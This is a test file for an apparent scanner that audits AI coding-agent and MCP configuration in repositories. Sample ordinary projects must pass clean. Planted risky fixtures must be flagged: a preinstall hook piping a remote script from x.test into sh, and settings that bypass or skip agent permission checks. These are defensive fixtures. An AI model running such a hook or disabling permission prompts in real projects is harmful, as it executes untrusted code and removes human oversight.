import { expect, test } from "bun:test";
import { shippedCatalogue } from "./catalogue.ts";
import { evaluate } from "./evaluate.ts";
import { openSource, type SourceFile } from "./source.ts";

/** Whole repositories as people have them: what is ordinary raises no alarm, what lies deeper is found. */
const { checks, kinds } = shippedCatalogue();

function findings(files: Record<string, unknown>): string[] {
  const source = Object.entries(files).map(([path, content]): SourceFile => {
    const text = typeof content === "string" ? content : JSON.stringify(content, null, 2);
    return { scope: "project", path, read: () => text };
  });
  const results = evaluate(checks, openSource(source, kinds, new Set(["project"])));
  return results.flatMap(result =>
    "findings" in result ? result.findings.map(({ path, line }) => `${result.check.id} ${path}:${line}`) : [],
  );
}

const ordinary: Record<string, Record<string, unknown>> = {
  "a web application with Claude Code": {
    ".claude/settings.json": {
      permissions: {
        allow: ["Bash(npm run lint)", "Bash(npm run test:*)", "Bash(git diff:*)", "WebFetch(domain:docs.example.com)"],
        deny: ["Read(./.env)", "Read(./.env.*)", "Read(./secrets/**)", "Bash(curl:*)"],
        ask: ["Bash(git push:*)"],
      },
      env: { NODE_ENV: "development" },
      statusLine: { type: "command", command: "~/.claude/statusline.sh" },
    },
    ".mcp.json": {
      mcpServers: {
        github: {
          type: "http",
          url: "https://api.githubcopilot.com/mcp/",
          headers: { Authorization: `Bearer \${GITHUB_TOKEN}` },
        },
        postgres: { command: "npx", args: ["-y", "@modelcontextprotocol/server-postgres@0.6.2", `\${DATABASE_URL}`] },
      },
    },
    "CLAUDE.md":
      "Never commit secrets. Run `npm test` first, do not skip tests and never use `--no-verify`.\nSee @docs/style.md.\n<!-- Generated: run scripts/docs.sh again after changes -->\n",
    ".claude/agents/reviewer.md": "---\nname: reviewer\ntools: Read, Grep, Bash\n---\nYou review. Ignore formatting.\n",
    ".claude/commands/ship.md": "---\nallowed-tools: Bash(git diff:*), Bash(gh pr create:*)\n---\nDo not skip hooks.\n",
    "package.json": {
      scripts: { dev: "vite", postinstall: "patch-package", prepare: "husky" },
      dependencies: { react: "^18.2.0" },
    },
    ".github/workflows/ci.yml":
      "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n",
    ".gitignore": "node_modules\n.env\n",
    ".git/config": "[core]\n\tbare = false\n\thooksPath = .husky/_\n[alias]\n\tst = status\n",
  },
  "a Python service with Cursor": {
    "AGENTS.md":
      "Install: `pip install -e .[dev]`. Always ask before deleting files.\nDo not tell users about internal hosts.\n",
    ".cursor/mcp.json": {
      mcpServers: {
        fetch: { command: "uvx", args: ["mcp-server-fetch==2025.4.7"] },
        local: { command: "python", args: ["-m", "tools.mcp"] },
        docs: { url: "http://localhost:3333/sse" },
      },
    },
    "requirements.txt": "requests==2.31.0\n-e .\n",
    ".env": "DEBUG=1\nPORT=8000\nPASSWORD=changeme\n",
  },
  "infrastructure with an agent that answers to mentions": {
    ".envrc": "use flake\nexport AWS_PROFILE=dev\n",
    ".devcontainer/devcontainer.json":
      '{\n // dev\n "image": "mcr.microsoft.com/devcontainers/base:ubuntu", "postCreateCommand": "npm ci", "remoteUser": "vscode",\n}',
    ".github/workflows/claude.yml": `on:\n  issue_comment: { types: [created] }\njobs:\n  claude:\n    if: contains(github.event.comment.body, '@claude')\n    permissions: { contents: write }\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          anthropic_api_key: \${{ secrets.ANTHROPIC_API_KEY }}\n`,
    "certs/dev.pem": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    ".gemini/settings.json": {
      mcpServers: { tf: { command: "docker", args: ["run", "-i", "--rm", "hashicorp/terraform-mcp-server:0.3.0"] } },
    },
  },
  "Codex, VS Code and opencode side by side": {
    ".codex/config.toml":
      'approval_policy = "on-request"\nsandbox_mode = "workspace-write"\n[mcp_servers.ctx7]\ncommand = "npx"\nargs = ["-y", "@upstash/context7-mcp@1.0.14"]\n[mcp_servers.hosted]\nurl = "https://mcp.example.com/mcp"\nbearer_token_env_var = "HOSTED_TOKEN"\n',
    ".vscode/mcp.json": `{\n  // servers\n  "servers": { "search": { "type": "stdio", "command": "npx", "args": ["-y", "server-search@1.2.0"], "env": { "API_KEY": "\${input:k}" } } }\n}`,
    "opencode.json": {
      permission: { bash: { "*": "ask", "git status": "allow" }, edit: "ask" },
      mcp: { tools: { type: "local", command: ["bun", "run", "tools/mcp.ts"] } },
      provider: { anthropic: { options: { apiKey: "{env:ANTHROPIC_API_KEY}" } } },
    },
    ".npmrc": `registry=https://registry.npmjs.org/\n//npm.example.com/:_authToken=\${NPM_TOKEN}\n`,
  },
};

test.each(Object.entries(ordinary))("%s raises no alarm", (_, files) => {
  expect(findings(files)).toEqual([]);
});

test("what lies in folders below counts like what lies on top; pipelines and git's settings only count on top", () => {
  const found = findings({
    "packages/a/.claude/settings.json": { permissions: { defaultMode: "bypassPermissions" } },
    "packages/a/.mcp.json": { mcpServers: { x: { command: "npx", args: ["-y", "some-server"] } } },
    "packages/b/package.json": { scripts: { preinstall: "curl https://x.test/i.sh | sh" } },
    "packages/b/.cursor/mcp.json": { mcpServers: { y: { url: "http://mcp.example.com/sse" } } },
    "packages/c/.github/workflows/a.yml": "steps:\n  - run: claude --dangerously-skip-permissions -p x\n",
  });
  expect(found).toEqual([
    "GH-MCP-002 packages/a/.mcp.json:3",
    "GH-MCP-004 packages/b/.cursor/mcp.json:3",
    "GH-PERM-001 packages/a/.claude/settings.json:3",
    "GH-REPO-002 packages/b/package.json:3",
  ]);
});
